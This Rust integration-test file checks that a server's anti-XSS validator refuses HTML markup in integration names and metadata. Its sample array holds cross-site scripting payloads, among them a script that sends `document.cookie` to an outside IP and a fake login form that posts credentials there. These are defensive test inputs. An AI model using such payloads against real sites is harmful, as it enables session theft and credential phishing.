//! TBMQ's `@NoXss` on an integration's name and `additionalInfo`: markup is refused with a 400,
//! TBMQ's message and a field error per field, and nothing is saved or asked of an executor.

use reqwest::StatusCode;
use serde_json::json;

use super::support::{assert_error, integration, on_both_backends, stop_executor, Backend, Env};
use crate::xss::{is_malformed, is_malformed_json};

on_both_backends!(markup_in_name_or_additional_info_is_refused);

/// TBMQ's own malicious samples (`NoXssValidatorTest`).
pub const TBMQ_SAMPLES: &[&str] = &[
    "aboba<a href='a' onmouseover=alert(1337) style='font-size:500px'>666",
    "9090<body onload=alert('xsssss')>90909",
    "qwerty<script>new Image().src=\"http://192.168.149.128/bogus.php?output=\"+document.cookie;</script>yyy",
    "bambam<script>alert(document.cookie)</script>",
    "<p><a href=\"http://htmlbook.ru/example/knob.html\">Link!!!</a></p>1221",
    "<h3>Please log in to proceed</h3> <form action=http://192.168.149.128>Username:<br><input type=\"username\" name=\"username\"></br>Password:<br><input type=\"password\" name=\"password\"></br><br><input type=\"submit\" value=\"Log in\"></br>",
    "   <img src= \"http://site.com/\"  >  ",
    "123 <input type=text value=a onfocus=alert(1337) AUTOFOCUS>bebe",
];

#[test]
fn what_counts_as_markup() {
    for sample in TBMQ_SAMPLES {
        assert!(is_malformed(sample), "{sample}");
    }
    for markup in [
        "<b>",
        "x<i",
        "1<2",
        "a<_b",
        "<?xml version=\"1.0\"?>",
        "<![CDATA[x]]>",
        "</b>",
        "<!-- c --><b>",
        "<g>",
        "<ünï>",
        &"x".repeat(100_001),
    ] {
        assert!(is_malformed(markup), "{markup}");
    }
    for text in [
        "",
        "Temperature sensor #1",
        "a < b",
        "x<=5",
        "5 > 3",
        "<",
        "a<",
        "a</",
        "a</ b",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<!-- a comment -->",
        "<!-- unterminated",
        "<!DOCTYPE html>",
        "javascript:alert(1)",
        "ünïcödé 温度",
        &"x".repeat(100_000),
    ] {
        assert!(!is_malformed(text), "{text}");
    }
    assert!(is_malformed_json(&json!({"description": "<script>alert(1)</script>"})));
    assert!(is_malformed_json(&json!(["ok", {"deep": ["<img src=x>"]}])));
    assert!(is_malformed_json(&json!("<b>")));
    assert!(!is_malformed_json(&json!({"description": "a < b", "n": 5})));
    assert!(!is_malformed_json(&json!(null)));
}

async fn markup_in_name_or_additional_info_is_refused(backend: Backend) {
    let env = Env::start(backend).await;
    // Refused before any executor is asked: no executor is running yet.
    let (code, body) = env.post("/api/integration", integration(TBMQ_SAMPLES[3], true, json!({}))).await;
    assert_eq!(assert_error(code, &body, 400, 31), "Validation error: name field value is malformed");
    assert_eq!(body["fieldErrors"], json!([{"field": "name", "message": "field value is malformed"}]));
    let executor = env.start_executor("ie-1").await;
    for sample in TBMQ_SAMPLES {
        let (code, body) = env.post("/api/integration", integration(sample, true, json!({}))).await;
        assert_eq!(assert_error(code, &body, 400, 31), "Validation error: name field value is malformed", "{sample}");
        let mut info = integration("fine", true, json!({}));
        info["additionalInfo"] = json!({"description": sample});
        let (code, body) = env.post("/api/integration", info).await;
        assert_eq!(assert_error(code, &body, 400, 31), "Validation error: additionalInfo field value is malformed");
        assert_eq!(body["fieldErrors"], json!([{"field": "additionalInfo", "message": "field value is malformed"}]));
    }
    let mut both = integration("<b>bold</b>", true, json!({}));
    both["additionalInfo"] = json!("<i>");
    let (code, body) = env.post("/api/integration", both).await;
    assert_eq!(
        assert_error(code, &body, 400, 31),
        "Validation error: additionalInfo field value is malformed, name field value is malformed"
    );
    assert_eq!(body["fieldErrors"].as_array().map(Vec::len), Some(2), "{body}");
    let (_, page) = env.get("/api/integrations?pageSize=10&page=0").await;
    assert_eq!(page["totalElements"], 0, "{page}");
    assert!(env.sink.calls.lock().is_empty());
    // Plain text with comparison signs is fine; an update to a malformed name is refused and
    // leaves the stored one alone.
    let mut fine = integration("temp < 30 & humidity > 40", true, json!({}));
    fine["additionalInfo"] = json!({"description": "alerts when x<=5 or y > 3"});
    let (code, saved) = env.post("/api/integration", fine.clone()).await;
    assert_eq!(code, StatusCode::OK, "{saved}");
    fine["id"] = saved["id"].clone();
    fine["name"] = json!("renamed<script>x</script>");
    let (code, body) = env.post("/api/integration", fine).await;
    assert_error(code, &body, 400, 31);
    let (_, stored) = env.get(&format!("/api/integration/{}", saved["id"].as_str().expect("id"))).await;
    assert_eq!(stored["name"], "temp < 30 & humidity > 40");
    stop_executor(executor);
    env.stop().await;
}
